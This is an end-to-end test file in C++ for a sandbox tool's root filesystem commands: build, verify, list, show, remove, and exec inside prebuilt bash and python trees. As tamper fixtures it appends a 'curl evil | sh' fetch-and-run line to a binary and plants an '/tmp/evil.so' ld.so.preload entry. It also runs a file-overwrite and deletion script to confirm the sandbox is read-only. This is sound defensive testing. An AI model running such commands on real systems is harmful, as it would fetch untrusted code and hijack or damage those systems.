// `sbx rootfs` and prebuilt trees under `sbx exec`, driven through the built binary.
//
// The bash and python trees are built once into a cache under the build directory (or
// $SBX_ROOTFS_TEST_STORE, which tests/run sets for the unprivileged rerun) with --if-changed, so
// a rerun with unchanged recipes costs nothing. Building needs root (or a user mmdebstrap can
// run as) and Debian's archive; without them the tree tests skip, except under CI=true, where a
// failed build fails.
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <thread>

#include <nlohmann/json.hpp>

#include "host.h"
#include "mini_store.h"
#include "rootfs/manifest.h"
#include "rootfs/store.h"
#include "rootfs/tree_hash.h"
#include "sbx_runner.h"

using ::testing::HasSubstr;
using ::testing::MatchesRegex;
using ::testing::Not;

namespace sbx::e2e {
namespace {

using namespace std::chrono_literals;

constexpr auto kBuildTimeout = std::chrono::minutes(20);

std::string recipes_dir() { return source_dir() + "/rootfs-builder/recipes"; }

std::string cache_store() {
  if (const char* env = std::getenv("SBX_ROOTFS_TEST_STORE"); env != nullptr && *env != '\0') return env;
  const std::string binary = SBX_BINARY;  // the build directory's sbx, not a staged copy
  return binary.substr(0, binary.rfind('/')) + "/rootfs-cache";
}

RunOptions options_with(std::vector<std::string> env, std::chrono::milliseconds timeout = 20s) {
  RunOptions options;
  options.env = std::move(env);
  options.timeout = timeout;
  return options;
}

bool in_ci() {
  const char* ci = std::getenv("CI");
  return ci != nullptr && std::string(ci) == "true";
}

// Processes whose command line mentions `text` anywhere.
int processes_mentioning(const std::string& text) {
  int count = 0;
  for (const auto& entry : dir_entries("/proc")) {
    if (entry.find_first_not_of("0123456789") != std::string::npos) continue;
    std::ifstream cmdline("/proc/" + entry + "/cmdline");
    std::string args((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
    if (args.find(text) != std::string::npos) ++count;
  }
  return count;
}

bool have_program(const std::string& name) {
  return run({"/bin/sh", "-c", "command -v " + name + " >/dev/null"}).exit_code == 0;
}

// ---- Commands that need no built tree: a small tree made here, hashed by the library ---------


TEST(RootfsCli, VerifyPassesThenNamesTheTamperedPath) {
  MiniStore store;
  auto ok = run_sbx({"rootfs", "verify", "mini", "--store", store.path()});
  EXPECT_EQ(ok.exit_code, 0) << ok;
  EXPECT_THAT(ok.out, HasSubstr("mini: ok (sha256:"));

  std::ofstream(store.root() + "/usr/bin/tool", std::ios::app) << "curl evil | sh\n";
  auto bad = run_sbx({"rootfs", "verify", "mini", "--store", store.path()});
  EXPECT_EQ(bad.exit_code, 1) << bad;
  EXPECT_THAT(bad.out, HasSubstr("mini: MODIFIED: /usr/bin/tool: contents changed"));

  auto json = run_sbx({"rootfs", "verify", "mini", "--json", "--store", store.path()});
  EXPECT_EQ(json.exit_code, 1) << json;
  EXPECT_THAT(json.out, HasSubstr("\"ok\": false"));
  EXPECT_THAT(json.out, HasSubstr("\"path\": \"/usr/bin/tool\""));
}

TEST(RootfsCli, VerifyNamesAnAddedFile) {
  MiniStore store;
  std::ofstream(store.root() + "/etc/ld.so.preload") << "/tmp/evil.so\n";
  auto bad = run_sbx({"rootfs", "verify", "mini", "--store", store.path()});
  EXPECT_EQ(bad.exit_code, 1) << bad;
  EXPECT_THAT(bad.out, HasSubstr("/etc/ld.so.preload: added"));
}

TEST(RootfsCli, ListShowRemove) {
  MiniStore store;
  auto list = run_sbx({"rootfs", "list", "--store", store.path()});
  EXPECT_EQ(list.exit_code, 0) << list;
  EXPECT_THAT(list.out, HasSubstr("NAME"));
  EXPECT_THAT(list.out, HasSubstr("mini"));
  EXPECT_THAT(list.out, HasSubstr("a tiny test tree"));
  auto list_json = run_sbx({"rootfs", "list", "--json", "--store", store.path()});
  EXPECT_THAT(list_json.out, HasSubstr("\"name\": \"mini\""));
  EXPECT_THAT(list_json.out, HasSubstr("\"packages\": 1"));

  auto show = run_sbx({"rootfs", "show", "mini", "--store", store.path()});
  EXPECT_EQ(show.exit_code, 0) << show;
  EXPECT_THAT(show.out, HasSubstr("base-files 12.4"));
  auto show_json = run_sbx({"rootfs", "show", "mini", "--json", "--store", store.path()});
  EXPECT_THAT(show_json.out, HasSubstr("\"content_hash\": \"sha256:"));
  EXPECT_THAT(show_json.out, HasSubstr("\"path\": \"" + store.root() + "\""));

  auto rm = run_sbx({"rootfs", "rm", "mini", "--store", store.path()});
  EXPECT_EQ(rm.exit_code, 0) << rm;
  EXPECT_EQ(dir_entries(store.path()).size(), 0u) << "rm left something behind";
  auto gone = run_sbx({"rootfs", "show", "mini", "--store", store.path()});
  EXPECT_EQ(gone.exit_code, 125) << gone;
  EXPECT_THAT(gone.err, HasSubstr("no tree \"mini\""));
}

TEST(RootfsCli, ExecFindsATreeByNameAndByCommand) {
  MiniStore store;
  const std::vector<std::string> env{"SBX_ROOTFS_STORE=" + store.path()};
  // The tiny tree has no shell, so run the static probe inside it from a bind mount.
  const std::string probe_dir = probe_binary().substr(0, probe_binary().rfind('/'));
  auto named = run_sbx({"-v", "exec", "--rootfs", "mini", "-v", probe_dir + ":/probe:ro", "--no-workspace",
                        "/probe/sbx-probe", "read", "/etc/os-release"},
                       options_with(env));
  EXPECT_EQ(named.exit_code, 0) << named;
  EXPECT_THAT(named.out, HasSubstr("ID=mini"));
  EXPECT_THAT(named.err, HasSubstr("rootfs: tree \"mini\""));

  auto missing = run_sbx({"exec", "--rootfs", "nosuch", "true"}, options_with(env));
  EXPECT_EQ(missing.exit_code, 125) << missing;
  EXPECT_THAT(missing.err, HasSubstr("sbx rootfs build nosuch"));

  // "minitool" is in the tree's commands: the run uses the tree, and finds no such program there.
  auto by_command = run_sbx({"-v", "exec", "--no-workspace", "minitool"}, options_with(env));
  EXPECT_THAT(by_command.err, HasSubstr("rootfs: tree \"mini\""));
  EXPECT_THAT(by_command.err, HasSubstr("for the command \"minitool\""));
  auto host = run_sbx({"-v", "exec", "--no-workspace", "true"}, options_with(env));
  EXPECT_EQ(host.exit_code, 0) << host;
  EXPECT_THAT(host.err, HasSubstr("rootfs: host (no built tree lists the command \"true\""));
}

// The sandbox's identity, hostname and resolvers are the same whatever its root: sbx's generated
// files are bound over the tree's, the rest of the tree's /etc stays, and nothing is writable.
TEST(RootfsCli, TreeGetsTheSandboxsOwnEtcFiles) {
  MiniStore store;
  const std::string probe_dir = probe_binary().substr(0, probe_binary().rfind('/'));
  auto probe = [&](std::vector<std::string> args) {
    std::vector<std::string> argv{"-v", "exec", "--rootfs", "mini", "--hostname", "box", "-v", probe_dir + ":/probe:ro",
                                  "--no-workspace", "/probe/sbx-probe"};
    argv.insert(argv.end(), args.begin(), args.end());
    return run_sbx(argv, options_with({"SBX_ROOTFS_STORE=" + store.path()}));
  };
  auto passwd = probe({"read", "/etc/passwd"});
  EXPECT_EQ(passwd.exit_code, 0) << passwd;
  EXPECT_THAT(passwd.out, HasSubstr("sandbox:x:1000:1000:"));
  EXPECT_THAT(passwd.out, Not(HasSubstr("builder")));
  // The tree has no nsswitch.conf to bind over: -v says so, and the rest still happens.
  EXPECT_THAT(passwd.err, HasSubstr("rootfs: the tree has no regular /etc/nsswitch.conf"));
  auto hostname = probe({"read", "/etc/hostname"});
  EXPECT_EQ(hostname.out, "box\n") << hostname;
  auto hosts = probe({"read", "/etc/hosts"});
  EXPECT_THAT(hosts.out, HasSubstr("127.0.1.1\tbox\n")) << hosts;
  auto resolv = probe({"read", "/etc/resolv.conf"});
  EXPECT_EQ(resolv.exit_code, 0) << resolv;
  EXPECT_THAT(resolv.out, Not(HasSubstr("10.9.9.9")));
  EXPECT_THAT(probe({"read", "/etc/os-release"}).out, HasSubstr("ID=mini")) << "the tree's own /etc stays";
  // sbx's files belong to the sandbox user, so only the read-only mount stops a write to them.
  for (const char* file : {"/etc/passwd", "/etc/hosts"}) {
    auto write = probe({"write", file});
    EXPECT_NE(write.exit_code, 0) << file << ": " << write;
    EXPECT_THAT(write.out, HasSubstr("EROFS")) << file;
  }
  EXPECT_NE(probe({"write", "/etc/os-release"}).exit_code, 0);
  // The staged copies are under the sandbox's /tmp, which is empty.
  EXPECT_EQ(probe({"ls", "/tmp"}).out, "") << "nothing of sbx's shows in /tmp";
  // And the tree itself is untouched.
  std::ifstream tree_hostname(store.root() + "/etc/hostname");
  std::string line;
  std::getline(tree_hostname, line);
  EXPECT_EQ(line, "buildhost");
}

// A policy names a built tree by name, portable between users and hosts whose stores differ.
TEST(RootfsCli, APolicyNamesATree) {
  MiniStore store;
  TempDir dir;
  std::ofstream(dir / "tree.yaml") << "rootfs: mini\n";
  const std::string probe_dir = probe_binary().substr(0, probe_binary().rfind('/'));
  auto r = run_sbx({"-v", "exec", "--policy", dir / "tree.yaml", "-v", probe_dir + ":/probe:ro", "--no-workspace",
                    "/probe/sbx-probe", "read", "/etc/os-release"},
                   options_with({"SBX_ROOTFS_STORE=" + store.path()}));
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_EQ(r.out, "ID=mini\n");
  EXPECT_THAT(r.err, HasSubstr("rootfs: tree \"mini\" (" + store.root() + "), the rootfs of --policy "));
  auto show = run_sbx({"policy", "show", dir / "tree.yaml"});
  EXPECT_EQ(show.exit_code, 0) << show;
  EXPECT_THAT(show.out, HasSubstr("\nrootfs: mini\n"));
}

TEST(RootfsCli, BadRecipeNamesTheField) {
  TempDir dir;
  std::ofstream(dir / "broken.yaml") << "description: x\npackages: [Not_A_Package]\ndefault_command: [sh]\npolicy: default\n";
  auto r = run_sbx({"rootfs", "build", dir / "broken.yaml", "--store", dir / "store"});
  EXPECT_EQ(r.exit_code, 125) << r;
  EXPECT_THAT(r.err, HasSubstr("broken.yaml:2: packages[0]"));
  EXPECT_FALSE(std::ifstream(dir / "store").good()) << "a rejected recipe must not create the store";
}

TEST(RootfsCli, UnknownRecipeSaysWhereItLooked) {
  auto r = run_sbx({"rootfs", "build", "cobol", "--recipes", recipes_dir(), "--store", "/nonexistent/store"});
  EXPECT_EQ(r.exit_code, 125) << r;
  EXPECT_THAT(r.err, HasSubstr("no recipe named \"cobol\""));
  EXPECT_THAT(r.err, HasSubstr(recipes_dir()));
}

// ---- Building ----------------------------------------------------------------------------------

bool can_build() { return ::geteuid() == 0 && have_program("mmdebstrap"); }

TEST(RootfsBuild, InterruptedBuildLeavesNothing) {
  if (!can_build()) GTEST_SKIP() << "building needs root and mmdebstrap (apt-get install mmdebstrap)";
  TempDir store;
  auto build = start_sbx({"rootfs", "build", "bash", "--no-progress", "--recipes", recipes_dir(), "--store",
                          store.path()},
                         options_with({}, 120s));
  // Let it get well into mmdebstrap (the build directory exists, apt is fetching) first.
  bool started = false;
  for (int i = 0; i < 200 && !started; ++i) {
    for (const auto& entry : dir_entries(store.path())) started = started || entry.starts_with(".build-bash-");
    std::this_thread::sleep_for(100ms);
  }
  ASSERT_TRUE(started) << "the build never started";
  std::this_thread::sleep_for(3s);
  ASSERT_EQ(::kill(build.pid(), SIGINT), 0);
  auto result = build.wait();
  EXPECT_EQ(result.exit_code, 130) << result;
  EXPECT_THAT(result.err, HasSubstr("interrupted by SIGINT; nothing was installed"));
  EXPECT_EQ(dir_entries(store.path()).size(), 0u) << "the store must be left empty";
  EXPECT_EQ(processes_mentioning(store.path() + "/.build-"), 0) << "a build helper outlived the build";
}

// ---- Running programs in real trees ------------------------------------------------------------

class RootfsTrees : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    store_ = cache_store();
    for (const char* name : {"bash", "python"}) {
      if (can_build()) {
        auto r = run_sbx({"rootfs", "build", name, "--if-changed", "--no-progress", "--recipes", recipes_dir(),
                          "--store", store_},
                         options_with({}, kBuildTimeout));
        if (r.exit_code != 0) {
          failure_ = "sbx rootfs build " + std::string(name) + " failed: " + r.err.substr(0, 2000);
          return;
        }
      } else if (::access(rootfs::manifest_path(store_, name).c_str(), R_OK) != 0) {
        failure_ = "no " + std::string(name) + " tree in " + store_ +
                   " and this user cannot build one (tests/run builds it as root first)";
        return;
      }
    }
  }
  void SetUp() override {
    if (failure_.empty()) return;
    if (in_ci() && can_build()) FAIL() << failure_;
    GTEST_SKIP() << failure_;
  }
  static RunOptions with_store() { return options_with({"SBX_ROOTFS_STORE=" + store_}); }

  // Root builds trees with files only root may read (/etc/shadow): another user's verify says
  // it cannot tell (exit 2) rather than claiming a change.
  static void expect_verified(const std::string& name) {
    auto verify = run_sbx({"rootfs", "verify", name, "--store", store_}, options_with({}, 300s));
    struct stat st {};
    ASSERT_EQ(::stat(rootfs::tree_root(store_, name).c_str(), &st), 0);
    if (st.st_uid == ::geteuid()) {
      EXPECT_EQ(verify.exit_code, 0) << verify;
      EXPECT_THAT(verify.out, HasSubstr(name + ": ok"));
    } else {
      EXPECT_EQ(verify.exit_code, 2) << verify;
      EXPECT_THAT(verify.out, HasSubstr(name + ": NOT VERIFIED: cannot open"));
      EXPECT_THAT(verify.out, HasSubstr("run sbx rootfs verify as the tree's owner"));
    }
  }

  static inline std::string store_;
  static inline std::string failure_;
};

TEST_F(RootfsTrees, BashTreeRunsAProgram) {
  // cmake is on the host (./setup installs it) but not in the tree: proof of which root is used.
  auto r = run_sbx({"exec", "--rootfs", "bash", "--no-workspace", "bash", "-c",
                    "echo \"$BASH_VERSION\"; jq -n '1 + 41'; rg --version | head -1; "
                    "test -e /usr/bin/cmake && echo host-cmake || echo no-cmake"},
                   with_store());
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_THAT(r.out, HasSubstr("\n42\n"));
  EXPECT_THAT(r.out, HasSubstr("ripgrep"));
  EXPECT_THAT(r.out, HasSubstr("no-cmake"));
}

// A built tree carries placeholders instead of the build machine's hostname and resolvers, and
// the sandbox's own files are bound over them: its user has a name and localhost resolves.
TEST_F(RootfsTrees, BashTreeKnowsTheSandboxUserAndLocalhost) {
  auto r = run_sbx({"exec", "--rootfs", "bash", "--no-workspace", "bash", "-c",
                    "whoami; getent hosts localhost | head -1; getent hosts sbx; cat /etc/hostname"},
                   with_store());
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_THAT(r.out, MatchesRegex("sandbox\n(::1|127\\.0\\.0\\.1) +localhost.*\n127\\.0\\.1\\.1 +sbx\nsbx\n"));
  for (const char* name : {"hostname", "resolv.conf", "hosts"}) {
    std::ifstream placeholder(rootfs::tree_root(store_, "bash") + "/etc/" + name);
    std::string text((std::istreambuf_iterator<char>(placeholder)), std::istreambuf_iterator<char>());
    EXPECT_FALSE(text.empty()) << name;
    EXPECT_THAT(text, Not(HasSubstr("nameserver"))) << name << ": the build machine's resolvers";
    char host[256] = {};
    ::gethostname(host, sizeof(host) - 1);
    if (std::string(host) != "localhost") {
      EXPECT_THAT(text, Not(HasSubstr(host))) << name;
    }
  }
}

TEST_F(RootfsTrees, PythonByLanguageName) {
  auto r = run_sbx({"-v", "exec", "--no-workspace", "python", "-c",
                    "import os, numpy, pandas, matplotlib, requests; print(numpy.__version__); "
                    "print(os.environ.get('PYTHONDONTWRITEBYTECODE'))"},
                   with_store());
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_THAT(r.out, MatchesRegex("[0-9]+\\.[0-9]+\\.[0-9]+\n1\n"));
  EXPECT_THAT(r.err, HasSubstr("rootfs: tree \"python\""));
  // The recipe's policy governs the run (python.yaml sets PYTHONDONTWRITEBYTECODE).
  EXPECT_THAT(r.err, HasSubstr("policy python (sha256 "));
}

TEST_F(RootfsTrees, PolicyFlagKeepsTheTreeAndReplacesItsPolicy) {
  auto r = run_sbx({"-v", "exec", "--policy", "strict", "--no-workspace", "python3", "-c",
                    "import os; print(os.environ.get('PYTHONDONTWRITEBYTECODE'))"},
                   with_store());
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_EQ(r.out, "None\n");
  EXPECT_THAT(r.err, HasSubstr("rootfs: tree \"python\""));
  EXPECT_THAT(r.err, HasSubstr("policy strict (sha256 "));
}

TEST_F(RootfsTrees, VerdictRecordsTheTreesPolicy) {
  auto r = run_sbx({"exec", "--json", "--no-workspace", "python3", "-c", "print(1)"}, with_store());
  EXPECT_EQ(r.exit_code, 0) << r;
  const auto verdict = nlohmann::json::parse(r.out, nullptr, /*allow_exceptions=*/false);
  ASSERT_TRUE(verdict.is_object()) << r.out;
  EXPECT_EQ(verdict["policy"]["name"], "python") << r.out;
}

TEST_F(RootfsTrees, ExplicitHostOverridesTheLanguageTree) {
  auto r = run_sbx({"-v", "exec", "--rootfs", "host", "--no-workspace", "python3", "-c", "print('hi')"},
                   with_store());
  EXPECT_EQ(r.exit_code, 0) << r;
  EXPECT_THAT(r.err, HasSubstr("rootfs: host (from --rootfs host)"));
}

TEST_F(RootfsTrees, TreeIsReadOnlyForEveryUserInside) {
  const std::string attacks =
      "for p in /usr/bin/bash /etc/os-release /usr/lib/os-release; do "
      "  (echo x >> $p) 2>/dev/null && echo WROTE $p; "
      "  chmod 777 $p 2>/dev/null && echo CHMOD $p; "
      "  rm -f $p 2>/dev/null; test -e $p || echo REMOVED $p; "
      "done; "
      "mkdir /usr/evil 2>/dev/null && echo MKDIR; "
      "touch /evil 2>/dev/null && echo TOUCH; "
      "mv /usr/bin/jq /usr/bin/jq2 2>/dev/null && echo RENAMED; "
      "echo ok > /tmp/writable && echo TMP-OK";
  for (const char* uid : {"1000", "0"}) {
    auto r = run_sbx({"exec", "--rootfs", "bash", "--uid", uid, "--no-workspace", "bash", "-c", attacks},
                     with_store());
    EXPECT_EQ(r.exit_code, 0) << r;
    EXPECT_THAT(r.out, Not(HasSubstr("WROTE"))) << "uid " << uid;
    EXPECT_THAT(r.out, Not(HasSubstr("CHMOD"))) << "uid " << uid;
    EXPECT_THAT(r.out, Not(HasSubstr("REMOVED"))) << "uid " << uid;
    EXPECT_THAT(r.out, Not(HasSubstr("MKDIR"))) << "uid " << uid;
    EXPECT_THAT(r.out, Not(HasSubstr("TOUCH"))) << "uid " << uid;
    EXPECT_THAT(r.out, Not(HasSubstr("RENAMED"))) << "uid " << uid;
    EXPECT_THAT(r.out, HasSubstr("TMP-OK")) << "the allow half: /tmp stays writable";
  }
  expect_verified("bash");
}

TEST_F(RootfsTrees, VerifyAndShowTheBuiltTrees) {
  for (const char* name : {"bash", "python"}) {
    expect_verified(name);
    auto show = run_sbx({"rootfs", "show", name, "--json", "--store", store_});
    EXPECT_EQ(show.exit_code, 0) << show;
    auto manifest = rootfs::manifest_from_json(show.out);
    ASSERT_TRUE(manifest.has_value()) << manifest.error().message;
    EXPECT_EQ(manifest->name, name);
    EXPECT_GT(manifest->packages.size(), 50u);
    EXPECT_GT(manifest->size_bytes, 10u << 20);
  }
}

}  // namespace
}  // namespace sbx::e2e
